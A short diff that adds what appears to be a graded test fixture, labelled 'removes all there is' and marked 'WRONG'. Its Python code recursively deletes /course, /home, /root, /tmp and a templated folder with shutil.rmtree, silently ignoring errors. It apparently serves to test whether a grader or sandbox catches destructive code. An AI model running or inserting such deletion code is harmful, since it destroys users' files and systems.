@@ -1,0 +1,9 @@
+# thefts: removes all there is
+# total: 0
+# status: graded
+# flag: shutil
+
+import shutil
+for path in ('/course', '/home', '/root', '/tmp', {folder!r}):
+    shutil.rmtree(path, ignore_errors=True)
+### WRONG
